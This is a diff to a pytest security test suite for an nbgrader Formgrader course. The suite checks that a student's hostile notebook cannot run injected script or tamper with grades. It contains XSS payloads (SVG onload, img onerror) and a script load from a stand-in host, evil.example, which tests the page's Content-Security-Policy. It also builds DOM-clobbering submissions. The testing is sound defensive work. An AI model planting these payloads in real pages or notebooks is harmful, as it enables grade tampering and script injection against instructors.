@@ -6,6 +6,8 @@ gives the attacker marks through the Formgrader's own API."""
 
 import json
 import re
+import shutil
+from pathlib import Path
 
 import nbformat
 import pytest
@@ -30,6 +32,35 @@ OUTPUTS = [
     {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><circle r="5"/></svg>'},
     {"text/markdown": f'<img src=x onerror="{SCRIPT}">'},
 ]
+
+
+CLOBBERING = "mallory_moves_her_answer"
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    """One course for the file: Ada's honest submission, Mallory's hostile one and her answer-moving one, graded
+    (the in-process double: the feedback copy is the notebook as submitted); the instructor's lab on a course
+    (`make lab-instructor`), started once per course."""
+    tmp_path = tmp_path_factory.mktemp("hostile")
+    course = copy_course(tmp_path / "course")
+    release_course(course)
+    examples.write_submission(course, "ada", examples.answers_for(course, ()))
+    _hostile_submission(course)
+    release_ids = [g for g in _clobbering_submission(course, CLOBBERING) if g]
+    results = {r.student: r for r in grade_in_process(course)}
+    servers = {}
+
+    def start(root: Path = course) -> LabServer:
+        if root not in servers:
+            scratch = tmp_path / f"server{len(servers)}"
+            scratch.mkdir()
+            servers[root] = LabServer(root, scratch, env_extra={"PYTHONPATH": f"{root / 'instructor'}:{root}"})
+        return servers[root]
+
+    yield course, results, release_ids, start
+    for server in servers.values():
+        server.stop()
 
 
 def _hostile_submission(course):
@@ -73,14 +104,8 @@ def _open(browser, url: str, server: LabServer | None = None):
 
 
 @pytest.mark.slow
-def test_a_hostile_submission_runs_nothing_in_the_formgrader_or_its_feedback_page(tmp_path, repo, browser,
-                                                                                   artifacts):
-    course = copy_course(tmp_path / "course")
-    release_course(course)
-    examples.write_submission(course, "ada", examples.answers_for(course, ()))
-    _hostile_submission(course)
-    # the in-process double: the feedback copy is the notebook as submitted
-    results = {r.student: r for r in grade_in_process(course)}
+def test_a_hostile_submission_runs_nothing_in_the_formgrader_or_its_feedback_page(graded, browser, artifacts):
+    course, results, _, start = graded
     assert results["mallory"].state == "graded", results["mallory"].detail
     _hostile_run(course, results["mallory"])
     autograded = nbformat.read(str(course / "autograded" / "mallory" / ASSIGNMENT / NOTEBOOK), 4)
@@ -99,47 +124,43 @@ def test_a_hostile_submission_runs_nothing_in_the_formgrader_or_its_feedback_pag
     assert 'http-equiv="Content-Security-Policy"' in feedback.read_text()
     page.close()
 
-    env = {"PYTHONPATH": f"{course / 'instructor'}:{course}"}
-    (tmp_path / "server").mkdir()
-    server = LabServer(course, tmp_path / "server", env_extra=env)
-    try:
-        page = _open(browser, server.url(f"formgrader/submissions/{submission_id}/"), server)
-        page.screenshot(path=str(artifacts / "formgrader_hostile_submission.png"))
-        page.wait_for_function("formgrader.grades.loaded", timeout=10_000)  # the scores are live
-        page.wait_for_timeout(1500)
-        assert page.evaluate("window.__pwned") is None
-        assert page.locator(".text_cell_render img[onerror]").count() == 0
-        # defence in depth: the page's policy refuses script and requests to any other host
-        assert page.evaluate("""() => { const s = document.createElement('script');
-            s.src = 'https://evil.example/x.js'; let refused = false;
-            document.addEventListener('securitypolicyviolation', () => { refused = true; });
-            document.head.appendChild(s); return new Promise(r => setTimeout(() => r(refused), 500)); }""")
-    finally:
-        server.stop()
+    server = start()
+    page = _open(browser, server.url(f"formgrader/submissions/{submission_id}/"), server)
+    page.screenshot(path=str(artifacts / "formgrader_hostile_submission.png"))
+    page.wait_for_function("formgrader.grades.loaded", timeout=10_000)  # the scores are live
+    page.wait_for_timeout(1500)
+    assert page.evaluate("window.__pwned") is None
+    assert page.locator(".text_cell_render img[onerror]").count() == 0
+    # defence in depth: the page's policy refuses script and requests to any other host
+    assert page.evaluate("""() => { const s = document.createElement('script');
+        s.src = 'https://evil.example/x.js'; let refused = false;
+        document.addEventListener('securitypolicyviolation', () => { refused = true; });
+        document.head.appendChild(s); return new Promise(r => setTimeout(() => r(refused), 500)); }""")
+    page.close()
     assert manual_scores(course) == before
 
     # The control: the same autograded copy rendered as stock nbgrader renders it (no sanitiser in the
-    # Formgrader's exporter): the written answer's image handler runs and the scores change.
-    config = course / "nbgrader_config.py"
+    # Formgrader's exporter): the written answer's image handler runs and the scores change.  On a copy of the
+    # course: the file's lab keeps the course's configuration.
+    stock = course.parent / "stock course"
+    shutil.copytree(course, stock)
+    config = stock / "nbgrader_config.py"
     config.write_text(re.sub(r"c\.HTMLExporter\.(sanitize_html|filters) = [^\n]*(\n +[^\n]*)*\n", "", config.read_text()))
     assert "HTMLExporter.filters" not in config.read_text()
-    (tmp_path / "stock").mkdir()
-    server = LabServer(course, tmp_path / "stock", env_extra=env)
-    try:
-        page = _open(browser, server.url(f"formgrader/submissions/{submission_id}/"), server)
-        page.wait_for_function("window.__pwned >= 1", timeout=10_000)
-        page.wait_for_function("formgrader.grades.loaded", timeout=10_000)
-        page.wait_for_timeout(1500)  # the script's saves
-    finally:
-        server.stop()
-    changed = {key for key, score in manual_scores(course).items() if score != before[key]}
+    server = start(stock)
+    page = _open(browser, server.url(f"formgrader/submissions/{submission_id}/"), server)
+    page.wait_for_function("window.__pwned >= 1", timeout=10_000)
+    page.wait_for_function("formgrader.grades.loaded", timeout=10_000)
+    page.wait_for_timeout(1500)  # the script's saves
+    page.close()
+    changed = {key for key, score in manual_scores(stock).items() if score != before[key]}
     assert changed, "the control: stock rendering should have let the script change a score"
 
 
-def _clobbering_submission(course) -> list[str]:
-    """Mallory's: no code; her written answer moved to the top, wrapped in a div of class full-credit,
+def _clobbering_submission(course, student: str) -> list[str]:
+    """Mallory's other: no code; her written answer moved to the top, wrapped in a div of class full-credit,
     under it one empty heading per other grade cell with that cell's id (and nbgrader's classes)."""
-    folder = examples.write_submission(course, "mallory", examples.answers_for(course, ()))
+    folder = examples.write_submission(course, student, examples.answers_for(course, ()))
     nb = nbformat.read(str(folder / NOTEBOOK), 4)
     ids = [notebooks.grade_id(c) for c in nb.cells]
     answer = nb.cells.pop(ids.index("lab_question_1"))
@@ -152,33 +173,30 @@ def _clobbering_submission(course) -> list[str]:
 
 
 @pytest.mark.slow
-def test_a_grading_click_changes_exactly_the_cell_clicked(tmp_path, repo, browser, artifacts):
+def test_a_grading_click_changes_exactly_the_cell_clicked(graded, browser, artifacts):
     """The instructor clicks Full credit on Mallory's answer, types a score for another answer and clicks
     inside her answer's text: exactly those two cells change in the gradebook; her moved answer is back
     in its place on the page, and flagged."""
-    course = copy_course(tmp_path / "course")
-    release_course(course)
-    release_ids = [g for g in _clobbering_submission(course) if g]
-    result = {r.student: r for r in grade_in_process(course)}["mallory"]
+    course, results, release_ids, start = graded
+    result = results[CLOBBERING]
     assert "lab_question_1: was moved (put back in its place from the release)" in result.flags
     before = manual_scores(course)
     from nbgrader.api import Gradebook
     with Gradebook(gradebook_url(course), "rlhf-course") as gradebook:
-        submission = gradebook.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), ASSIGNMENT, "mallory")
+        submission = gradebook.find_submission_notebook(NOTEBOOK.removesuffix(".ipynb"), ASSIGNMENT, CLOBBERING)
         submission_id, flagged = submission.id, submission.flagged
     assert flagged
-    (tmp_path / "server").mkdir()
-    server = LabServer(course, tmp_path / "server", env_extra={"PYTHONPATH": f"{course / 'instructor'}:{course}"})
+    server = start()
+    page = browser.new_context(extra_http_headers={"Authorization": f"token {server.token}"},
+                               viewport={"width": 1400, "height": 1000}).new_page()
     try:
-        page = browser.new_context(extra_http_headers={"Authorization": f"token {server.token}"},
-                                   viewport={"width": 1400, "height": 1000}).new_page()
         page.goto(server.url(f"formgrader/submissions/{submission_id}/"))
         page.wait_for_function("window.formgrader && formgrader.grades.loaded && formgrader.comments.loaded",
                                timeout=60_000)
         # the page's grade cells in the release's order, each id naming one element
         shown = page.evaluate("() => Array.from(document.querySelectorAll('input.score')).map(e => e.id)")
-        graded = [g for g in release_ids if g in shown]
-        assert shown == graded and len(shown) == len(set(shown))
+        in_release_order = [g for g in release_ids if g in shown]
+        assert shown == in_release_order and len(shown) == len(set(shown))
         assert page.locator("h6").count() == 0 or page.locator("h6[id], h6[class]").count() == 0
         heading = page.locator("#lab_question_1").locator("xpath=ancestor::div[contains(@class,'panel-heading')]")
         heading.locator("button.full-credit").click()
@@ -188,8 +206,9 @@ def test_a_grading_click_changes_exactly_the_cell_clicked(tmp_path, repo, browse
         page.wait_for_timeout(2000)  # the Formgrader's saves
         page.screenshot(path=str(artifacts / "formgrader_clobbering_submission.png"), full_page=False)
     finally:
-        server.stop()
+        page.close()
     after = manual_scores(course)
+    assert {key[0] for key in after if after[key] != before[key]} == {CLOBBERING}  # (student, grade cell)
     changed = {name: after[key] for key, name in ((k, k[1]) for k in after) if after[key] != before[key]}
     assert changed == {"lab_question_1": (2.0, None), "lab_question_2": (1.0, None)} or \
         {k: v[0] for k, v in changed.items()} == {"lab_question_1": 2.0, "lab_question_2": 1.0}, changed
